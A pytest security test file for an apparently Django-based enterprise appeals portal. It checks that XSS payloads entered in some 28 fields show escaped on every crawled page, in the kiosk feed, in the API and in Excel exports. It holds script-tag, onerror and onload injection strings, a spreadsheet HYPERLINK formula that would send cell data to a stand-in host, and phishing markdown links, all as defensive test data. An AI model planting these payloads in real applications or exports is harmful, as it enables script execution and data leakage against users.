"""Script in every text field a person can fill, shown escaped on every page that shows it.

Each field gets a payload tagged with its own code (``x01``…): a tag that closes an attribute,
an inline script and an image with an ``onerror`` handler. The payloads go in through the real
forms (registration, appeal submission with a file, the Excel import) and services (every other
step), then every page each role can reach is crawled, following links from the home page. A
page fails if it has an inline script, an ``on…=`` attribute, an injected image or a
``javascript:`` link; each tag must be seen (escaped) on some page, so a field that stops being
shown is noticed too. The kiosk's JSON and the Excel export are checked for what they are.
"""

import datetime as dt
import io
from collections import defaultdict
from types import SimpleNamespace

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from openpyxl import Workbook, load_workbook

from enterprises import services
from enterprises.models import Appeal, Membership, Screen
from enterprises.services import celebrations as celebration_services
from enterprises.services import sessions as session_services
from portal.models import ImportJob, User
from tests.factories import (
    PASSWORD,
    DepartmentFactory,
    EnterpriseFactory,
    UserFactory,
    category,
    uscc_for,
)
from tests.security.crawl import crawl, inspect
from tests.security.world import MONDAY, PNG, member, pdf

pytestmark = pytest.mark.django_db


def payload(tag: str) -> str:
    """48 characters at most with a 3-character tag: fits a 50-character name."""
    return f"{tag}'\"><script>x()</script><img src=x onerror=x()>"


def file_name(tag: str, extension: str) -> str:
    """A payload for a file name: a "/" would end the name (the path is dropped), so no "</"."""
    return f"{tag}'\"><svg onload=x()><img src=x onerror=x()>.{extension}"


# Fields whose payload must show on some page, by tag.
FIELDS = {
    "x01": "registration: full name",
    "x02": "registration: enterprise name",
    "x03": "import: enterprise name",
    "x04": "appeal: title",
    "x05": "appeal: content",
    "x06": "appeal: file name",
    "x07": "accept: note",
    "x08": "assign: note",
    "x09": "request-info: question",
    "x10": "provide-info: answer",
    "x11": "provide-info: file name",
    "x12": "extend: reason",
    "x13": "reply: content",
    "x14": "rate: comment",
    "x15": "membership: rejection reason",
    "x16": "session: theme",
    "x17": "session: venue",
    "x18": "session: agenda",
    "x19": "expert: name",
    "x20": "expert: organisation",
    "x21": "session need: title",
    "x22": "session need: instruction",
    "x23": "session: minutes",
    "x24": "light-up day: text",
    "x25": "light-up day: decline reason",
    "x26": "reject: reason",
    "x27": "supervise: note",
    "x28": "invitation answer: note",
}


def _xlsx(rows: list[list]) -> bytes:
    from enterprises.imports import COLUMNS

    workbook = Workbook()
    sheet = workbook.active
    sheet.append([column.header for column in COLUMNS])
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


@pytest.fixture
def filled(db, clock):
    """Every field above filled with its payload, through forms and services."""
    clock.set(MONDAY, 10)
    department = DepartmentFactory(name="市经信局")
    dispatcher = UserFactory(role="dispatcher")
    leader = UserFactory(role="leader")
    admin = UserFactory(role="admin", is_staff=True, is_superuser=True)
    handler = UserFactory(role="handler", department=department)
    head = UserFactory(role="department_head", department=department)

    # Registration through the page: a new enterprise named by the applicant.
    response = Client().post(
        "/accounts/register/",
        {
            "username": "xss-applicant",
            "password1": PASSWORD,
            "password2": PASSWORD,
            "name": payload("x01"),
            "mobile": "13812345678",
            "uscc": uscc_for(777),
            "enterprise_name": payload("x02"),
        },
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    entrepreneur = User.objects.get(username="xss-applicant")
    services.membership_verify(
        membership=Membership.objects.get(user=entrepreneur), actor=dispatcher
    )
    enterprise = entrepreneur.memberships.get().enterprise

    # A second applicant, rejected with a reason.
    rejected = Client().post(
        "/accounts/register/",
        {
            "username": "xss-rejected",
            "password1": PASSWORD,
            "password2": PASSWORD,
            "name": "被拒绝",
            "mobile": "13812345679",
            "uscc": uscc_for(778),
            "enterprise_name": "衢州另一家公司",
        },
    )
    assert rejected.status_code == 302
    services.membership_reject(
        membership=Membership.objects.get(user__username="xss-rejected"),
        actor=dispatcher,
        reason=payload("x15"),
    )

    # The Excel import, through the page.
    staff = Client()
    staff.force_login(dispatcher)
    sheet = _xlsx([[uscc_for(779), payload("x03"), "柯城区"]])
    response = staff.post(
        "/imports/new/",
        {"kind": "enterprises.directory", "file": SimpleUploadedFile("enterprises.xlsx", sheet)},
    )
    assert response.status_code == 302, response.content.decode()[:3000]
    job = ImportJob.objects.latest("pk")
    mapping = {f"column_{i}": job.mapping[h] for i, h in enumerate(job.headers)}
    assert staff.post(f"/imports/{job.pk}/check/", mapping).status_code == 302
    response = staff.post(f"/imports/{job.pk}/apply/", {"mode": "all"})
    assert response.status_code == 302, response.content.decode()[:3000]

    # An appeal through the submission page, with a file whose name is a payload.
    owner = Client()
    owner.force_login(entrepreneur)
    response = owner.post(
        "/appeals/new/",
        {
            "enterprise": enterprise.pk,
            "category": category().pk,
            "title": payload("x04"),
            "content": payload("x05"),
            "files": SimpleUploadedFile(
                file_name("x06", "pdf"), pdf("x"), content_type="application/pdf"
            ),
        },
    )
    assert response.status_code == 302, response.content.decode()[:3000]
    appeal = Appeal.objects.get(enterprise=enterprise)
    services.appeal_accept(appeal=appeal, actor=dispatcher, note=payload("x07"))
    services.appeal_assign(
        appeal=appeal, actor=dispatcher, department=department, note=payload("x08")
    )
    services.appeal_sign(appeal=appeal, actor=handler)
    services.appeal_request_info(appeal=appeal, actor=handler, question=payload("x09"))
    services.appeal_provide_info(
        appeal=appeal,
        actor=entrepreneur,
        content=payload("x10"),
        files=[SimpleUploadedFile(file_name("x11", "pdf"), pdf("y"), "application/pdf")],
    )
    appeal.refresh_from_db()
    services.appeal_extend(
        appeal=appeal,
        actor=handler,
        due_date=appeal.due_date + dt.timedelta(days=10),
        reason=payload("x12"),
    )
    services.appeal_supervise(appeal=appeal, actor=leader, note=payload("x27"))
    services.appeal_reply(appeal=appeal, actor=handler, content=payload("x13"))
    services.appeal_rate(
        appeal=appeal, actor=entrepreneur, rating="dissatisfied", comment=payload("x14")
    )
    second = services.appeal_submit(
        actor=entrepreneur,
        enterprise=enterprise,
        title="第二件诉求",
        content="内容",
        category=category(),
    )
    services.appeal_reject(appeal=second, actor=dispatcher, reason=payload("x26"))

    # A dialogue session with everything typed into it.
    session = session_services.session_create(
        actor=dispatcher,
        number=1,
        theme=payload("x16"),
        held_on=MONDAY + dt.timedelta(days=3),
        venue=payload("x17"),
        hosts=[leader],
        agenda=payload("x18"),
    )
    session_services.session_add_expert(
        session=session,
        actor=dispatcher,
        name=payload("x19"),
        organisation=payload("x20"),
    )
    invitation = session_services.session_invite(
        session=session, actor=dispatcher, user=entrepreneur, enterprise=enterprise
    )
    session_services.session_answer(
        invitation=invitation, actor=entrepreneur, answer="accepted", note=payload("x28")
    )
    clock.set(MONDAY + dt.timedelta(days=3), 16)
    session = session_services.session_hold(session=session, actor=dispatcher)
    session_services.session_record_need(
        session=session,
        actor=dispatcher,
        enterprise=enterprise,
        category=category(),
        title=payload("x21"),
        content="会上提出的诉求",
        instruction=payload("x22"),
        leader=leader,
    )
    session_services.session_summarise(session=session, actor=dispatcher, minutes=payload("x23"))

    # Light-up days: one approved for today on a screen, one declined with a reason.
    hall = Screen.objects.create(name="市行政中心大屏", slug="hall", location="市行政中心")
    today = clock().date()
    shown = celebration_services.celebration_request(
        actor=entrepreneur,
        enterprise=enterprise,
        kind="listing",
        screen_text=payload("x24"),
        starts_on=today,
        ends_on=today,
        screens=[hall],
        image=SimpleUploadedFile(file_name("x29", "png"), PNG, content_type="image/png"),
    )
    celebration_services.celebration_approve(celebration=shown, actor=leader)
    declined = celebration_services.celebration_request(
        actor=dispatcher,
        enterprise=enterprise,
        kind="award",
        screen_text="热烈祝贺获奖",
        starts_on=today + dt.timedelta(days=2),
        ends_on=today + dt.timedelta(days=2),
        screens=[hall],
    )
    celebration_services.celebration_decline(
        celebration=declined, actor=dispatcher, reason=payload("x25")
    )
    return SimpleNamespace(
        people={
            "entrepreneur": entrepreneur,
            "rejected": User.objects.get(username="xss-rejected"),
            "dispatcher": dispatcher,
            "handler": handler,
            "head": head,
            "leader": leader,
            "admin": admin,
        },
        appeal=appeal,
        session=session,
        hall=hall,
    )


def test_every_payload_is_shown_escaped_on_every_page(filled, report_cases):
    problems: dict[str, list[str]] = defaultdict(list)
    seen_tags: set[str] = set()
    crawled = 0
    extra = [
        filled.appeal.get_absolute_url(),
        filled.session.get_absolute_url(),
        f"/enterprises/{filled.appeal.enterprise_id}/",
        f"/enterprises/{filled.appeal.enterprise_id}/celebrations/",
        f"/screens/{filled.hall.slug}/",
    ]
    for person, user in filled.people.items():
        client = Client()
        client.force_login(user)
        pages = crawl(client, extra)
        crawled += len(pages)
        for url, html in pages.items():
            for problem in inspect(html).problems:
                problems[f"{url} as {person}"].append(problem)
            seen_tags.update(tag for tag in FIELDS if tag in html)
    # The public kiosk, signed out.
    kiosk = Client().get(f"/screens/{filled.hall.slug}/").content.decode()
    problems.update({"kiosk": inspect(kiosk).problems} if inspect(kiosk).problems else {})
    seen_tags.update(tag for tag in FIELDS if tag in kiosk)
    report_cases(f"XSS: {len(FIELDS)} fields, {crawled} pages crawled across 7 people")

    assert not problems, "script could run:\n" + "\n".join(
        f"{where}: {', '.join(sorted(set(found)))}" for where, found in problems.items()
    )
    unseen = {tag: FIELDS[tag] for tag in FIELDS if tag not in seen_tags}
    assert not unseen, f"fields never shown on any page (so never checked): {unseen}"


def test_payloads_are_text_in_the_kiosk_feed_and_the_api(filled):
    feed = Client().get(f"/screens/{filled.hall.slug}/feed/")
    assert feed["Content-Type"].startswith("application/json")
    text = feed.json()["items"][0]["text"]
    assert text == payload("x24")  # data, for the kiosk's script to write as textContent

    kiosk = Client().get(f"/screens/{filled.hall.slug}/").content.decode()
    # json_script escapes < > & so the feed inside the page cannot close its <script>.
    assert "<script>x()" not in kiosk
    assert "\\u003Cscript\\u003Ex()" in kiosk

    api = Client()
    api.force_login(filled.people["dispatcher"])
    response = api.get(f"/api/v1/appeals/{filled.appeal.pk}/")
    assert response["Content-Type"].startswith("application/json")
    assert response.json()["title"] == payload("x04")
    assert response["X-Content-Type-Options"] == "nosniff"


def _formulas(raw: bytes) -> list[str]:
    workbook = load_workbook(io.BytesIO(raw))
    return [
        f"{sheet.title}!{cell.coordinate}: {cell.value}"
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def test_payloads_are_plain_text_in_the_excel_export(filled):
    client = Client()
    client.force_login(filled.people["dispatcher"])
    response = client.get("/appeals/export/")
    raw = b"".join(response.streaming_content)
    cells = [
        str(cell)
        for sheet in load_workbook(io.BytesIO(raw), read_only=True).worksheets
        for row in sheet.iter_rows(values_only=True)
        for cell in row
        if cell is not None
    ]
    assert payload("x04") in cells  # the title as it was typed, as text
    assert not _formulas(raw)


FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"详情")'


def test_text_that_looks_like_a_formula_stays_text_in_the_exports(db, clock, entrepreneur_world):
    people = entrepreneur_world
    client = Client()
    client.force_login(people.dispatcher)
    listing = b"".join(client.get("/appeals/export/").streaming_content)
    summary = client.get(f"/enterprises/sessions/{people.session.pk}/export/").content
    assert _formulas(listing) == []
    assert _formulas(summary) == []


@pytest.fixture
def entrepreneur_world(db, clock):
    clock.set(MONDAY, 10)
    dispatcher = UserFactory(role="dispatcher")
    leader = UserFactory(role="leader")
    owner = member(EnterpriseFactory(name="=1+2"))
    services.appeal_submit(
        actor=owner,
        enterprise=owner.enterprise,
        title=FORMULA,
        content="内容",
        category=category(),
    )
    session = session_services.session_create(
        actor=dispatcher,
        number=1,
        theme=FORMULA,
        held_on=MONDAY + dt.timedelta(days=3),
        venue="=2+3",
        hosts=[leader],
    )
    return SimpleNamespace(dispatcher=dispatcher, session=session)


def test_robot_posts_show_a_persons_text_as_text():
    from portal.channels import render_dingtalk, render_wecom

    comment = "[官方通知：请点此重新登录](http://phish.example/) ![](http://tracker.example/p.png)"
    for payload_ in (
        render_dingtalk(title="诉求被退回重办", body=comment, url="/appeals/1/")["markdown"][
            "text"
        ],
        render_wecom(title="诉求被退回重办", body=comment, url="/appeals/1/")["markdown"][
            "content"
        ],
    ):
        assert "](http://phish.example/)" not in payload_
        assert "![](" not in payload_
